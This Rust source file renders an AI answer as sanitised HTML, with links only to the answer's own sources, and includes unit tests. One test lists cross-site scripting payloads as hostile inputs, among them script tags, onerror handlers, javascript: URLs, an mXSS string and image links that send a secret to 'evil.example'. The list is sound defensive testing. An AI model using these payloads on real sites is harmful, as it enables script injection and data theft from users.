//! An answer as safe HTML: paragraphs, lists, emphasis and code, footnote marks that lead to
//! their sources, sentences that say how well they are supported. Nothing else gets through:
//! no raw HTML, no image, no link that a model made up.

mod annotate;

use std::{borrow::Cow, sync::LazyLock};

use ammonia::Builder;
use app::answer::CheckedSentence;
use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, TextMergeWithOffset, html};

use self::annotate::Annotated;
use crate::model::llm::Markup;

/// The answer's blocks (paragraphs, lists, …), each as HTML of its own. `sentences` is empty
/// while the answer is being written.
pub(crate) fn blocks(answer: &str, markup: Markup, sentences: &[CheckedSentence]) -> Vec<String> {
    let annotated = Annotated::new(answer, markup, sentences);
    let blocks = match markup {
        Markup::Plain => plain(&annotated),
        Markup::Markdown => markdown(&annotated),
    };
    blocks.into_iter().map(|block| sanitised(&block)).filter(|block| !block.is_empty()).collect()
}

/// What an item of a list begins with in a text without markup.
const BULLET: &str = "• ";

/// Each line a paragraph, items one after the other a list.
fn plain(answer: &Annotated) -> Vec<String> {
    let mut start = 0;
    let mut blocks = Vec::new();
    let mut items = String::new();
    for line in answer.text.split('\n') {
        let end = start + line.len();
        if let Some(item) = line.strip_prefix(BULLET) {
            items.push_str(&format!("<li>{}</li>", answer.run(item, end - item.len()..end)));
        } else if !line.trim().is_empty() {
            blocks.extend(list(&mut items));
            blocks.push(format!("<p>{}</p>", answer.run(line, start..end)));
        }
        start = end + 1;
    }
    blocks.extend(list(&mut items));
    blocks
}

/// The list of the items so far, where there are any.
fn list(items: &mut String) -> Option<String> {
    let items = std::mem::take(items);
    (!items.is_empty()).then(|| format!("<ul>{items}</ul>"))
}

fn markdown(answer: &Annotated) -> Vec<String> {
    let mut blocks = Vec::new();
    let mut block: Vec<Event<'_>> = Vec::new();
    let (mut depth, mut in_code) = (0_usize, false);
    let parser = Parser::new_ext(&answer.text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH);
    for (event, range) in TextMergeWithOffset::new(parser.into_offset_iter()) {
        match event {
            Event::Start(Tag::Link { .. } | Tag::Image { .. }) | Event::End(TagEnd::Link | TagEnd::Image) => {
                continue;
            }
            Event::Start(tag) => {
                depth += 1;
                in_code |= matches!(tag, Tag::CodeBlock(_));
                block.push(Event::Start(tag));
            }
            Event::End(tag) => {
                depth -= 1;
                in_code &= !matches!(tag, TagEnd::CodeBlock);
                block.push(Event::End(tag));
            }
            Event::Text(text) if !in_code => block.push(Event::Html(CowStr::from(answer.run(&text, range)))),
            // Raw HTML is text like any other.
            Event::Html(text) | Event::InlineHtml(text) => block.push(Event::Text(text)),
            Event::SoftBreak => block.push(Event::Text(CowStr::Borrowed(" "))),
            other => block.push(other),
        }
        if depth == 0 {
            let mut out = String::new();
            html::push_html(&mut out, block.drain(..));
            blocks.push(out);
        }
    }
    blocks
}

/// What may stand in an answer; everything else is taken out, whatever let it in.
static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(
            [
                "p",
                "ul",
                "ol",
                "li",
                "strong",
                "em",
                "del",
                "code",
                "pre",
                "blockquote",
                "br",
                "hr",
                "table",
                "thead",
                "tbody",
                "tr",
                "th",
                "td",
                "h1",
                "h2",
                "h3",
                "h4",
                "h5",
                "h6",
                "a",
                "span",
            ]
            .into(),
        )
        .tag_attributes(
            [
                ("a", ["class", "href", "data-ref", "aria-label"].into()),
                ("ol", ["start"].into()),
                ("span", ["class"].into()),
            ]
            .into(),
        )
        .url_schemes([].into())
        .url_relative(ammonia::UrlRelative::Custom(Box::new(only_to_sources)))
        .link_rel(None);
    builder
});

/// The only links there are lead to the answer's own sources.
fn only_to_sources(url: &str) -> Option<Cow<'_, str>> {
    let number = url.strip_prefix("#source-")?;
    number.bytes().all(|byte| byte.is_ascii_digit()).then_some(Cow::Borrowed(url))
}

fn sanitised(html: &str) -> String {
    SANITISER.clean(html).to_string().trim().to_owned()
}

#[cfg(test)]
mod tests {
    use app::answer::{Contradiction, Support};

    use super::*;

    fn render(answer: &str) -> String {
        blocks(answer, Markup::Markdown, &[]).join("\n")
    }

    const MARK: &str = r##"<a class="mark" href="#source-1" data-ref="1" aria-label="Source 1">1</a>"##;

    #[test]
    fn marks_become_links_to_their_sources() {
        assert_eq!(render("Twenty days [1]."), format!("<p>Twenty days {MARK}.</p>"));
        assert_eq!(blocks("Days [1] * x", Markup::Plain, &[]), [format!("<p>Days {MARK} * x</p>")]);
        assert_eq!(
            blocks("It covers:\n• gyms [1]\n• yoga\nAsk.", Markup::Plain, &[]),
            [
                "<p>It covers:</p>".into(),
                format!("<ul><li>gyms {MARK}</li><li>yoga</li></ul>"),
                "<p>Ask.</p>".to_owned()
            ]
        );
    }

    #[test]
    fn a_block_is_a_paragraph_a_list_a_table_or_code() {
        let blocks = blocks("One *two*.\n\n- a [1]\n- b\n\n```\nlet a[1] = <b>;\n```", Markup::Markdown, &[]);
        assert_eq!(blocks.len(), 3);
        assert_eq!(blocks[0], "<p>One <em>two</em>.</p>");
        assert_eq!(blocks[1].replace('\n', ""), format!("<ul><li>a {MARK}</li><li>b</li></ul>"));
        assert_eq!(blocks[2], "<pre><code>let a[1] = &lt;b&gt;;\n</code></pre>");
    }

    #[test]
    fn sentences_say_how_well_they_are_supported() {
        let sentences = [sentence(0, 11, Support::Supported), sentence(12, 24, Support::Unsupported)];
        let html = blocks("Ää **b** c. Other [1] d.", Markup::Markdown, &sentences).concat();
        assert_eq!(
            html,
            format!(
                "<p><span class=\"sentence supported\">Ää </span><strong><span class=\"sentence supported\">b</span>\
                 </strong><span class=\"sentence supported\"> c.</span> \
                 <span class=\"sentence unsupported\">Other {MARK} d.</span></p>"
            )
        );
    }

    #[test]
    fn a_contradicted_sentence_is_struck_through_beside_what_its_source_says() {
        let against = Contradiction { reference: 2, quote: "Only **20** <days>.".into() };
        let wrong =
            CheckedSentence { contradicted_by: Some(against), ..sentence(0, 19, Support::Unsupported) };
        let html = blocks("You **get 25** [2]. Other.", Markup::Markdown, &[wrong]).concat();
        assert_eq!(html.matches("<del>").count(), 3, "{html}");
        assert_eq!(html.matches("goes-on").count(), 2, "{html}");
        let instead =
            "<span class=\"instead\"> The source says: “Only **20** &lt;days&gt;.”<a class=\"mark\"";
        let (before, behind) = html.split_once(instead).unwrap();
        assert!(before.ends_with(".</del></span>") && behind.ends_with("</span> Other.</p>"), "{html}");
    }

    fn sentence(start: u32, end: u32, support: Support) -> CheckedSentence {
        CheckedSentence {
            start,
            end,
            refs: vec![1],
            support,
            score: 0.0,
            contradicted_by: None,
            second_opinion: None,
        }
    }

    #[test]
    fn nothing_a_model_writes_runs_or_leaves() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/a.png?q=secret)",
            "![x][1]\n\n[1]: https://evil.example/a.png",
            "[click](javascript:alert(1))",
            "[click](https://evil.example/)",
            "<https://evil.example/>",
            "[a]: https://evil.example/ \"title\"\n\n[a]",
            "<a href=\"https://evil.example\">x</a>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "`<script>`<script>alert(1)</script>",
            "```\n</code></pre><script>alert(1)</script>\n```",
            "<p style=\"background:url(https://evil.example)\">x</p>",
            "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
        ] {
            for markup in [Markup::Markdown, Markup::Plain] {
                let html = blocks(attack, markup, &[]).concat();
                for tag in html.split('<').skip(1) {
                    let name = tag.trim_start_matches('/').split([' ', '>', '/']).next().unwrap();
                    let known = ["p", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "a"];
                    assert!(known.contains(&name), "{attack:?} became {html:?}");
                }
                let inside_tags: String = html
                    .split('<')
                    .skip(1)
                    .filter_map(|tag| tag.split('>').next())
                    .collect::<Vec<_>>()
                    .join(" ");
                for bad in ["javascript:", "onerror", "evil.example", "src", "style"] {
                    assert!(!inside_tags.contains(bad), "{attack:?} became {html:?}");
                }
            }
        }
    }

    #[test]
    fn a_model_made_link_leaves_its_words() {
        assert_eq!(render("See [the *page*](https://evil.example)."), "<p>See the <em>page</em>.</p>");
    }
}
